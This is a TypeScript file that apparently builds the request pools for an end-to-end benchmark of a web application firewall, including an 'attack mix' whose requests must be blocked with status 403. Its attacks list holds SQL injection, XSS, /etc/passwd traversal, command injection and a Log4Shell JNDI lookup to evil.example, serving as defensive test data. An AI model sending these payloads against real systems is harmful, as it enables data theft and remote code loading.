/** The requests of the end-to-end benchmark, each with the status that it must get. */
import { type BenchRequest, browserGet, formPost, jsonPost } from '../crs/cases.ts';

/** Kinds of traffic that are compared. */
export const trafficNames = ['browser GET', 'JSON POST', 'form POST', 'attack mix'] as const;
/** One of them, or large bodies, which others have to wait for: 1 MiB of known length, 5 MiB of unknown. */
export type TrafficName = (typeof trafficNames)[number] | '1 MiB POST' | '5 MiB POST';

/** A request as it goes over the wire. */
export interface PooledRequest {
  readonly bytes: Buffer;
  /** What whoever inspects must answer; who inspects nothing answers 200. */
  readonly status: 200 | 403;
}

/** Browsers that send the GETs: their header values repeat, as those of a site's visitors do. */
const browsers = 50;

/** Attacks in the query, one for each class that everybody should see. */
const attacks = [
  "q=1'+UNION+SELECT+name,pass+FROM+users--+-",
  'q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  'file=../../../../etc/passwd',
  'cmd=%3Bcat+/etc/passwd%7Cid',
  'q=%24%7Bjndi:ldap://evil.example/a%7D',
];

/** As many different requests as matter: their values are new when they come again after thousands of others. */
export function requestPool(traffic: TrafficName): PooledRequest[] {
  switch (traffic) {
    case 'browser GET':
      return many(4000, benignGet);
    case 'JSON POST':
      return many(800, (round) => pooled(jsonPost(round)));
    case 'form POST':
      return many(60, (round) => pooled(formPost(round, 200, 500)));
    case '1 MiB POST':
      return many(2, (round) => pooled(formPost(round, 16, 65_000)));
    case '5 MiB POST':
      return many(2, (round) => chunked(formPost(round, 80, 65_000)));
    case 'attack mix':
      return many(2000, (round) => {
        if (round % 10 === 9) return attackGet(round);
        return round % 5 === 3 ? pooled(jsonPost(round)) : benignGet(round);
      });
  }
}

function many(count: number, make: (round: number) => PooledRequest): PooledRequest[] {
  return Array.from({ length: count }, (_, round) => make(round));
}

function benignGet(round: number): PooledRequest {
  return pooled(browserGet(round % browsers, round));
}

function attackGet(round: number): PooledRequest {
  const request = browserGet(round % browsers, round);
  const attack = attacks[Math.floor(round / 10) % attacks.length]!;
  return { ...pooled({ ...request, target: `${request.target}&${attack}` }), status: 403 };
}

function pooled({ method, target, headers, body }: BenchRequest): PooledRequest {
  const lines = headers.map(([name, value]) => `${name}: ${value}\r\n`).join('');
  return {
    bytes: Buffer.concat([Buffer.from(`${method} ${target} HTTP/1.1\r\n${lines}\r\n`, 'latin1'), body]),
    status: 200,
  };
}

const chunkBytes = 64 * 1024;

/** The same in chunks, without a length. */
function chunked({ method, target, headers, body }: BenchRequest): PooledRequest {
  const lines = headers
    .filter(([name]) => name !== 'Content-Length')
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('');
  const pieces: Buffer[] = [
    Buffer.from(`${method} ${target} HTTP/1.1\r\n${lines}Transfer-Encoding: chunked\r\n\r\n`, 'latin1'),
  ];
  for (let at = 0; at < body.length; at += chunkBytes) {
    const piece = body.subarray(at, at + chunkBytes);
    pieces.push(Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from('\r\n'));
  }
  return { bytes: Buffer.concat([...pieces, Buffer.from('0\r\n\r\n')]), status: 200 };
}
